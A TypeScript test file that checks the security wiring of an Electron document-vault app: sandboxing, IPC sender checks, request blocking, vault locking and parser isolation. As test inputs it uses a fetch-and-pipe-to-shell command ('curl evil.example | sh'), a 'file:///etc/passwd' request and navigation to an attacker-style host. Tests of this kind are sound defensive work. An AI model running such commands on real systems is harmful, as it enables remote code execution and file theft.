import { EventEmitter } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, isAbsolute, join } from 'node:path';
import { compileFunction } from 'node:vm';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { BUILT, ensureBuilt } from '../../scripts/testing/builtApp';
import { CHANNELS } from '../../shared/ipc/channels';
import { LOCK_POLL_MS } from './systemLock';
import { createElectronStub, installStub, requireFresh, type ElectronStub, type FakeFrame, type StubOptions } from './testing/electronStub';

/**
 * The shell self-check: the BUILT main and preload bundles (what electron-builder packs), loaded under
 * plain Node with a stub of `electron` that only records (testing/electronStub.ts), because no Electron
 * binary can run here. The core below the shell is real: vault, IPC dispatch, import service.
 *
 * What the wiring must do, as a list of problems that must stay empty (`shellProblems`): privileged
 * scheme and sandbox before `ready`; a window that is isolated, sandboxed, Node-free, with a CommonJS
 * preload that exists; exactly the contract's IPC channels, each refusing a frame that is not the app's
 * page; navigation, window.open, downloads, permissions and network refused; parser processes started
 * from out/main/parserChild.js with a heap cap V8 honours there; the vault locked on screen lock (the
 * Linux route included) and on suspend; the recovery code copied through main; and a start-up error
 * that says so, lets go of the single-instance lock and exits. Each control below breaks one thing (in
 * the stub, or in what was observed) and the check must name it.
 */
const OUT_MAIN = dirname(BUILT.main);
const OUT_PRELOAD = dirname(BUILT.preload);
const PASSPHRASE = 'river stone lantern autumn harbour';

const scratch: string[] = [];
const installed: Array<() => void> = [];

beforeAll(async () => {
  await ensureBuilt();
  // The shell says what it refuses ("[dalel] blocked a request to ..."); the checks read that from the stub.
  vi.spyOn(console, 'warn').mockImplementation(() => undefined);
}, 5 * 60 * 1000);
afterEach(() => {
  vi.useRealTimers();
  vi.unstubAllEnvs();
  for (const uninstall of installed.splice(0)) uninstall();
});
afterAll(() => {
  for (const dir of scratch.splice(0)) rmSync(dir, { recursive: true, force: true });
});

interface ShellRun {
  stub: ElectronStub;
  requests: Map<string, string[]>;
  dir: string;
  ipc(channel: string, input: unknown, frame?: FakeFrame | null): Promise<{ ok: boolean; value?: unknown; error?: { code: string } }>;
  quit(): Promise<void>;
}

/** Start the built main bundle against a fresh stub and let it reach `ready`. */
async function startShell(options: Partial<StubOptions> = {}, env: Record<string, string | undefined> = {}): Promise<ShellRun> {
  const dir = mkdtempSync(join(tmpdir(), 'dalel-shell-'));
  scratch.push(dir);
  const stub = createElectronStub({ userData: join(dir, 'user-data'), documents: join(dir, 'documents'), ...options });
  const { requests, uninstall } = installStub(stub);
  installed.push(uninstall);
  // Whatever the developer's shell has set, the default run is a plain unpackaged start.
  env = { ELECTRON_RENDERER_URL: undefined, DALEL_USER_DATA_DIR: undefined, ...env };
  const saved = Object.fromEntries(Object.keys(env).map((key) => [key, process.env[key]]));
  const savedResourcesPath = (process as { resourcesPath?: string }).resourcesPath;
  Object.assign(process.env, env);
  for (const [key, value] of Object.entries(env)) if (value === undefined) delete process.env[key];
  if (options.resourcesPath) (process as { resourcesPath?: string }).resourcesPath = options.resourcesPath;
  try {
    requireFresh(BUILT.main, OUT_MAIN);
  } finally {
    for (const [key, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[key];
      else process.env[key] = value;
    }
  }
  await stub.ready();
  (process as { resourcesPath?: string }).resourcesPath = savedResourcesPath;

  const run: ShellRun = {
    stub,
    requests,
    dir,
    async ipc(channel, input, frame = stub.windows[0]?.webContents.mainFrame ?? null) {
      const handler = stub.handlers.get(channel);
      if (!handler) throw new Error(`no handler for ${channel}`);
      return (await handler({ senderFrame: frame }, input)) as Awaited<ReturnType<ShellRun['ipc']>>;
    },
    async quit() {
      stub.app.quit();
      await waitFor(() => stub.called('app.quit:done').length > 0, 60_000, 'the app to finish quitting');
    },
  };
  return run;
}

async function waitFor(condition: () => boolean, ms: number, what: string): Promise<void> {
  const end = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

// ---------------------------------------------------------------------------------------------------
// What was seen, as plain data, and the checks over it.

interface Observation {
  beforeReady: { privilegedSchemes: unknown[]; sandbox: boolean; singleInstance: boolean };
  protocolHandled: string[];
  windows: Array<{ webPreferences: Record<string, unknown>; loaded: string[]; preloadIsCommonJs: boolean; preloadExists: boolean }>;
  channels: string[];
  senders: { own: boolean; otherProcess: boolean; iframe: boolean; foreignUrl: boolean; gone: boolean };
  permissions: { request: boolean[]; check: boolean; device: boolean };
  requests: Record<string, boolean>;
  downloads: { prevented: boolean };
  contents: { windowOpen: unknown; navigateAway: boolean; navigateInApp: boolean; webview: boolean };
  menu: boolean;
  powerEvents: string[];
}

interface VaultObservation {
  parserFork: { modulePath: string; execArgv: string[]; serviceName: unknown; env: unknown } | null;
  afterLockScreen: unknown;
  afterSuspend: unknown;
  afterLinuxLockPoll: unknown;
  copy: { ownCode: { ok: boolean; written: string }; notACode: { ok: boolean; written: string } };
}

const isCommonJs = (file: string) => {
  try {
    compileFunction(readFileSync(file, 'utf8'), ['exports', 'require', 'module', '__filename', '__dirname'], { filename: file });
    return true;
  } catch {
    return false;
  }
};

async function observe(run: ShellRun): Promise<Observation> {
  const { stub } = run;
  const pre = (api: string) => stub.called(api);
  const permissionRequest = pre('session.setPermissionRequestHandler')[0]?.args[0] as
    | ((contents: unknown, permission: string, callback: (granted: boolean) => void) => void)
    | undefined;
  const granted = (permission: string) => {
    let answer = true;
    permissionRequest?.({}, permission, (value) => (answer = value));
    return answer;
  };
  const check = pre('session.setPermissionCheckHandler')[0]?.args[0] as (() => boolean) | undefined;
  const device = pre('session.setDevicePermissionHandler')[0]?.args[0] as (() => boolean) | undefined;

  const cancelled = (url: string) => {
    let cancel: boolean | null = null;
    for (const listener of stub.session.webRequest.listeners) listener({ url }, (answer) => (cancel = answer.cancel));
    return cancel ?? false;
  };
  let downloadPrevented = false;
  stub.session.emit('will-download', { preventDefault: () => (downloadPrevented = true) });

  // A web contents the app did not mean to create: the hardening must reach it too.
  const contents = Object.assign(new EventEmitter(), {
    openHandler: null as null | (() => unknown),
    setWindowOpenHandler(handler: () => unknown) {
      this.openHandler = handler;
    },
  });
  stub.app.emit('web-contents-created', {}, contents);
  const prevented = (event: string, url?: string) => {
    let was = false;
    contents.emit(event, { url, preventDefault: () => (was = true) });
    return was;
  };

  const window = stub.windows[0];
  const own = window?.webContents.mainFrame ?? null;
  const refused = async (frame: FakeFrame | null) => !(await run.ipc('vault:status', {}, frame)).ok;

  return {
    beforeReady: {
      privilegedSchemes: pre('protocol.registerSchemesAsPrivileged').filter((call) => call.beforeReady).map((call) => call.args[0]),
      sandbox: pre('app.enableSandbox').some((call) => call.beforeReady),
      singleInstance: pre('app.requestSingleInstanceLock').some((call) => call.beforeReady),
    },
    protocolHandled: pre('protocol.handle').map((call) => call.args[0] as string),
    windows: stub.windows.map((w) => {
      const webPreferences = (w.options.webPreferences ?? {}) as Record<string, unknown>;
      const preload = String(webPreferences.preload ?? '');
      return {
        webPreferences,
        loaded: w.loaded,
        preloadExists: isAbsolute(preload) && existsSync(preload) && preload === BUILT.preload,
        preloadIsCommonJs: existsSync(preload) && preload.endsWith('.js') && isCommonJs(preload),
      };
    }),
    channels: pre('ipcMain.handle')
      .map((call) => call.args[0] as string)
      .filter((channel) => stub.handlers.has(channel)),
    senders: {
      own: !(await refused(own)),
      otherProcess: !(await refused(own && { ...own, processId: own.processId + 1 })),
      iframe: !(await refused(own && { ...own, parent: {} })),
      foreignUrl: !(await refused(own && { ...own, url: 'https://evil.example/index.html' })),
      gone: !(await refused(null)),
    },
    permissions: { request: ['clipboard-sanitized-write', 'media', 'notifications'].map(granted), check: check?.() ?? true, device: device?.() ?? true },
    requests: Object.fromEntries(
      ['app://dalel/index.html', 'https://example.com/', 'http://localhost:5173/', 'ws://localhost:5173/', 'file:///etc/passwd'].map((url) => [url, !cancelled(url)]),
    ),
    downloads: { prevented: downloadPrevented },
    contents: {
      windowOpen: contents.openHandler?.(),
      navigateAway: !prevented('will-navigate', 'https://evil.example/'),
      navigateInApp: !prevented('will-navigate', 'app://dalel/index.html#/library'),
      webview: !prevented('will-attach-webview'),
    },
    menu: pre('Menu.setApplicationMenu').length === 1,
    powerEvents: pre('powerMonitor.on').map((call) => call.args[0] as string),
  };
}

function shellProblems(o: Observation): string[] {
  const problems: string[] = [];
  const fail = (condition: boolean, problem: string) => {
    if (condition) problems.push(problem);
  };
  fail(
    JSON.stringify(o.beforeReady.privilegedSchemes) !== JSON.stringify([[{ scheme: 'app', privileges: { standard: true, secure: true } }]]),
    `app:// must be registered once before ready as standard+secure and nothing more; saw ${JSON.stringify(o.beforeReady.privilegedSchemes)}`,
  );
  fail(!o.beforeReady.sandbox, 'app.enableSandbox() must run before ready');
  fail(!o.beforeReady.singleInstance, 'the single-instance lock must be taken before ready');
  fail(!o.protocolHandled.includes('app'), 'nothing serves app://');
  fail(o.windows.length !== 1, `one window expected, saw ${o.windows.length}`);
  for (const window of o.windows) {
    const p = window.webPreferences;
    const required = { contextIsolation: true, sandbox: true, nodeIntegration: false, nodeIntegrationInWorker: false, nodeIntegrationInSubFrames: false, webviewTag: false, webSecurity: true, allowRunningInsecureContent: false };
    for (const [key, value] of Object.entries(required)) fail(p[key] !== value, `webPreferences.${key} must be ${value}, is ${String(p[key])}`);
    fail(!window.preloadExists, `the preload must be the built out/preload/index.js, is ${String(p.preload)}`);
    fail(!window.preloadIsCommonJs, 'the preload must be CommonJS (a sandboxed preload cannot load ES modules)');
  }
  const expected: string[] = [...CHANNELS].sort();
  const registered = [...o.channels].sort();
  fail(JSON.stringify(registered) !== JSON.stringify(expected), `IPC channels differ from the contract: missing ${expected.filter((c) => !registered.includes(c)).join(', ') || 'none'}, extra ${registered.filter((c) => !expected.includes(c)).join(', ') || 'none'}`);
  fail(new Set(o.channels).size !== o.channels.length, 'a channel was registered twice');
  fail(!o.senders.own, "the app's own page was refused");
  for (const [frame, accepted] of Object.entries(o.senders)) if (frame !== 'own') fail(accepted, `a request from a foreign frame (${frame}) was answered`);
  fail(o.permissions.request.some(Boolean) || o.permissions.check || o.permissions.device, `a permission was granted: ${JSON.stringify(o.permissions)}`);
  const allowed = ['app://dalel/index.html'];
  for (const [url, letThrough] of Object.entries(o.requests)) fail(letThrough !== allowed.includes(url), `request policy wrong for ${url}: ${letThrough ? 'let through' : 'cancelled'}`);
  fail(!o.downloads.prevented, 'downloads are not refused');
  fail(JSON.stringify(o.contents.windowOpen) !== JSON.stringify({ action: 'deny' }), 'window.open is not denied');
  fail(o.contents.navigateAway, 'navigation off the app is not refused');
  fail(!o.contents.navigateInApp, 'navigation within the app is refused');
  fail(o.contents.webview, '<webview> attachment is not refused');
  fail(!o.menu, 'no application menu (Lock vault lives there)');
  for (const event of ['lock-screen', 'suspend']) fail(!o.powerEvents.includes(event), `nothing locks the vault on powerMonitor '${event}'`);
  return problems;
}

function vaultProblems(o: VaultObservation): string[] {
  const problems: string[] = [];
  const fail = (condition: boolean, problem: string) => {
    if (condition) problems.push(problem);
  };
  fail(!o.parserFork, 'no parser process was started for an import');
  if (o.parserFork) {
    fail(o.parserFork.modulePath !== BUILT.parserChild || !existsSync(o.parserFork.modulePath), `the parser entry must be out/main/parserChild.js, is ${o.parserFork.modulePath}`);
    fail(!o.parserFork.execArgv.some((arg) => /^--js-flags=--max-old-space-size=\d+$/.test(arg)), `the utility process heap cap must go through --js-flags; execArgv ${JSON.stringify(o.parserFork.execArgv)}`);
    fail(o.parserFork.execArgv.some((arg) => arg.startsWith('--max-old-space-size')), 'a bare --max-old-space-size is ignored by a utility process');
    // An empty or missing env makes utilityProcess.fork inherit the whole environment (electron_api_utility_process.cc).
    const env = o.parserFork.env as Record<string, unknown> | undefined;
    fail(!env || typeof env !== 'object' || Object.keys(env).length === 0, 'the parser process must get its own, non-empty environment (an empty one inherits everything)');
    fail(!!env && Object.keys(env).some((key) => key.startsWith('DALEL_')), `the parser process must not see DALEL_* variables; env ${JSON.stringify(Object.keys(env ?? {}))}`);
  }
  const lockedBySystem = (status: unknown) => {
    const s = status as { state?: string; lockReason?: string } | null;
    return s?.state === 'locked' && s.lockReason === 'system';
  };
  fail(!lockedBySystem(o.afterLockScreen), `lock-screen did not lock the vault: ${JSON.stringify(o.afterLockScreen)}`);
  fail(!lockedBySystem(o.afterSuspend), `suspend did not lock the vault: ${JSON.stringify(o.afterSuspend)}`);
  fail(!lockedBySystem(o.afterLinuxLockPoll), `a locked screen on Linux (getSystemIdleState 'locked') did not lock the vault: ${JSON.stringify(o.afterLinuxLockPoll)}`);
  fail(!o.copy.ownCode.ok || o.copy.ownCode.written === '', 'the recovery code did not reach the clipboard');
  fail(o.copy.notACode.ok || o.copy.notACode.written !== '', 'something that is not a recovery code reached the clipboard');
  return problems;
}

// ---------------------------------------------------------------------------------------------------

describe('the built shell, wired against a recording electron stub', () => {
  it('keeps every guard in place', async () => {
    const run = await startShell();
    const observation = await observe(run);
    expect(shellProblems(observation)).toEqual([]);
    expect(observation.windows[0]?.loaded).toEqual(['app://dalel/index.html']);
    await run.quit();
  });

  it('locks on screen lock (Linux route too) and suspend, starts parsers capped, and copies only a recovery code', async () => {
    vi.useFakeTimers({ toFake: ['setInterval', 'clearInterval'] });
    let idle: 'active' | 'locked' = 'active';
    // A secret in the main process's environment (as the CLI is given one) must not reach a parser process.
    vi.stubEnv('DALEL_PASSPHRASE', PASSPHRASE);
    const run = await startShell({ idleState: () => idle });
    const vaultPath = join(run.dir, 'Asylum cases');
    const created = await run.ipc('vault:create', { path: vaultPath, passphrase: PASSPHRASE });
    expect(created.ok).toBe(true);
    const { recoveryCode } = created.value as { recoveryCode: string };
    const status = async () => (await run.ipc('vault:status', {})).value as { state: string };
    const unlock = async () => expect((await run.ipc('vault:unlock', { path: vaultPath, secret: { passphrase: PASSPHRASE } })).ok).toBe(true);
    /** The status once the vault is locked, or as it is after 15 s (a lock may wait for work to stop). */
    const statusOnceLocked = async () => {
      const end = Date.now() + 15_000;
      let seen = await status();
      while (seen.state !== 'locked' && Date.now() < end) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        seen = await status();
      }
      return seen;
    };

    // An import starts a parser process: how it is started is what counts here (then it is cancelled).
    const png = new Uint8Array(await sharp({ create: { width: 600, height: 800, channels: 3, background: '#fff' } }).png().toBuffer());
    const imported = await run.ipc('documents:importFiles', { files: [{ name: 'scan.png', data: png }] });
    expect(imported.ok).toBe(true);
    await waitFor(() => run.stub.called('utilityProcess.fork').length > 0, 20_000, 'a parser process');
    const fork = run.stub.called('utilityProcess.fork')[0]!.args as [string, string[], { execArgv: string[]; serviceName: unknown; env: unknown }];
    await run.ipc('documents:cancelImport', { batchId: (imported.value as { batchId: string }).batchId });

    run.stub.powerMonitor.emit('lock-screen');
    const afterLockScreen = await statusOnceLocked();
    await unlock();
    run.stub.powerMonitor.emit('suspend');
    const afterSuspend = await statusOnceLocked();
    await unlock();
    idle = 'locked';
    vi.advanceTimersByTime(LOCK_POLL_MS);
    const afterLinuxLockPoll = await statusOnceLocked();

    const copied = async (code: string) => {
      run.stub.clipboardText.value = '';
      const result = await run.ipc('clipboard:copyRecoveryCode', { code });
      return { ok: result.ok, written: run.stub.clipboardText.value };
    };
    const observation: VaultObservation = {
      parserFork: { modulePath: fork[0], execArgv: fork[2].execArgv, serviceName: fork[2].serviceName, env: fork[2].env },
      afterLockScreen,
      afterSuspend,
      afterLinuxLockPoll,
      copy: { ownCode: await copied(recoveryCode), notACode: await copied('curl evil.example | sh') },
    };
    expect(vaultProblems(observation)).toEqual([]);
    expect(observation.copy.ownCode.written).toBe(recoveryCode);
    await run.quit();
  });

  it('says why it could not start, lets go of the single-instance lock and exits', async () => {
    const run = await startShell({ failGetPath: true });
    expect(startupProblems(run.stub)).toEqual([]);
  });

  it('loads the dev server only in an unpackaged build, with the request policy opened to it alone', async () => {
    const env = { ELECTRON_RENDERER_URL: 'http://localhost:5173' };
    const dev = await startShell({}, env);
    const devWindow = dev.stub.windows[0]!;
    expect(devWindow.loaded).toEqual(['http://localhost:5173/']);
    expect((await dev.ipc('vault:status', {})).ok).toBe(true);
    expect((await dev.ipc('vault:status', {}, { ...devWindow.webContents.mainFrame, url: 'app://dalel/index.html' })).ok).toBe(false);
    const devRequests = (await observe(dev)).requests;
    expect(devRequests).toMatchObject({ 'http://localhost:5173/': true, 'ws://localhost:5173/': true, 'https://example.com/': false, 'file:///etc/passwd': false });
    await dev.quit();

    const packaged = await startShell({ isPackaged: true, resourcesPath: join(tmpdir(), 'no-such-resources') }, env);
    expect(packaged.stub.windows[0]!.loaded).toEqual(['app://dalel/index.html']);
    expect((await observe(packaged)).requests['http://localhost:5173/']).toBe(false);
    await packaged.quit();
  });
});

function startupProblems(stub: ElectronStub): string[] {
  const problems: string[] = [];
  const errorBox = stub.called('dialog.showErrorBox')[0];
  if (!errorBox || !String(errorBox.args[1]).includes('cannot find the userData folder')) problems.push('no error dialog naming the reason');
  if (stub.called('app.releaseSingleInstanceLock').length === 0) problems.push('the single-instance lock was kept');
  if (JSON.stringify(stub.called('app.exit').map((call) => call.args[0])) !== '[1]') problems.push('the process did not exit with status 1');
  if (stub.windows.length > 0) problems.push('a window was opened after the failure');
  return problems;
}

describe('the built preload', () => {
  it('requires only electron, is CommonJS and exposes window.dalel built from the contract, nothing else', async () => {
    const stub = createElectronStub({ userData: tmpdir(), documents: tmpdir() });
    const { requests, uninstall } = installStub(stub);
    installed.push(uninstall);
    requireFresh(BUILT.preload, OUT_PRELOAD);
    expect(requests.get(BUILT.preload)).toEqual(['electron']);
    expect(isCommonJs(BUILT.preload)).toBe(true);
    expect([...stub.exposed.keys()]).toEqual(['dalel']);
    const api = stub.exposed.get('dalel') as Record<string, Record<string, (input?: unknown) => Promise<unknown>> | unknown>;
    const verbs = Object.entries(api)
      .filter(([, group]) => typeof group === 'object')
      .flatMap(([domain, group]) => Object.keys(group as object).map((verb) => `${domain}:${verb}`))
      .sort();
    expect(verbs).toEqual([...CHANNELS].sort());
    await (api.vault as Record<string, () => Promise<unknown>>).status!();
    expect(stub.called('ipcRenderer.invoke').map((call) => call.args)).toEqual([['vault:status', {}]]);
    expect(() => (api.on as (event: string, listener: () => void) => void)('not-an-event', () => {})).toThrow();
  });
});

describe('controls: a wiring mistake fails the check', () => {
  it('a channel the shell forgot to register', async () => {
    const run = await startShell({ dropHandle: 'vault:lock' });
    const problems = shellProblems(await observe(run));
    expect(problems.join('\n')).toMatch(/IPC channels differ from the contract: missing vault:lock/);
    await run.quit();
  });

  it('a window without the sandbox, a handler that answers an iframe, a request let out', async () => {
    const run = await startShell();
    const good = await observe(run);
    await run.quit();
    const window = good.windows[0]!;
    const noSandbox = { ...good, windows: [{ ...window, webPreferences: { ...window.webPreferences, sandbox: false } }] };
    expect(shellProblems(noSandbox)).toEqual(['webPreferences.sandbox must be true, is false']);
    expect(shellProblems({ ...good, senders: { ...good.senders, iframe: true } })).toEqual(['a request from a foreign frame (iframe) was answered']);
    expect(shellProblems({ ...good, requests: { ...good.requests, 'https://example.com/': true } })).toEqual(['request policy wrong for https://example.com/: let through']);
    expect(shellProblems({ ...good, windows: [{ ...window, preloadIsCommonJs: false }] })).toEqual(['the preload must be CommonJS (a sandboxed preload cannot load ES modules)']);
  });

  it('a parser heap cap V8 would ignore, a lock route that does nothing, a start-up error that is swallowed', () => {
    const good: VaultObservation = {
      parserFork: { modulePath: BUILT.parserChild, execArgv: ['--js-flags=--max-old-space-size=512'], serviceName: 'x', env: { PARSER_ENVIRONMENT: 'minimal' } },
      afterLockScreen: { state: 'locked', lockReason: 'system' },
      afterSuspend: { state: 'locked', lockReason: 'system' },
      afterLinuxLockPoll: { state: 'locked', lockReason: 'system' },
      copy: { ownCode: { ok: true, written: 'code' }, notACode: { ok: false, written: '' } },
    };
    expect(vaultProblems(good)).toEqual([]);
    expect(vaultProblems({ ...good, parserFork: { ...good.parserFork!, execArgv: ['--max-old-space-size=512'] } })).toHaveLength(2);
    expect(vaultProblems({ ...good, afterLinuxLockPoll: { state: 'unlocked', lockReason: null } })).toHaveLength(1);
    // The environment the parser process starts with: inherited (no env, or an empty one), or holding a secret.
    expect(vaultProblems({ ...good, parserFork: { ...good.parserFork!, env: undefined } })).toHaveLength(1);
    expect(vaultProblems({ ...good, parserFork: { ...good.parserFork!, env: {} } })).toHaveLength(1);
    expect(vaultProblems({ ...good, parserFork: { ...good.parserFork!, env: { PARSER_ENVIRONMENT: 'minimal', DALEL_PASSPHRASE: 'x' } } })).toHaveLength(1);
    const swallowed = createElectronStub({ userData: tmpdir(), documents: tmpdir() });
    expect(startupProblems(swallowed)).toEqual(['no error dialog naming the reason', 'the single-instance lock was kept', 'the process did not exit with status 1']);
  });
});
